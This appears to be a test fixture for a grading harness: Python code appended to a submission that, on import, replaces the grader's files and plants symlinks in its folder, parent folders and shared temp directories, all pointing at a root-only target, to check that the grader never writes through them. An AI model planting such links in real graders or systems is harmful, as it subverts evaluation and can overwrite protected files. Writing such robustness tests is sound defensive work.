# Appended to correct.py. Hostile: at import, plants links to a file only root may write (TARGET, filled in by
# the test) wherever the grader might write: the names of the grader's files in its own folder, results.json
# there, in its parent folders and in the shared temporary folders. The grader must never write through them
# (the target keeps its content) and must remove every link it left outside its folder. Full marks otherwise.
import os

TARGET = "{target}"
MARK = "{mark}"
for folder in [".", "..", "/tmp", "/var/tmp", "/dev/shm"]:
    for name in ["task.pt", "runner.py", "submission.py", "results.json", f"{MARK}-results.json",
                 "import.pt", "node-9.pt"]:
        path = os.path.join(folder, name)
        try:
            if folder != "." or name in ("results.json", "node-9.pt"):
                os.symlink(TARGET, path)
            else:  # its own folder: replace the grader's files by links
                os.replace(path, path + ".old")
                os.symlink(TARGET, path)
        except OSError:
            pass
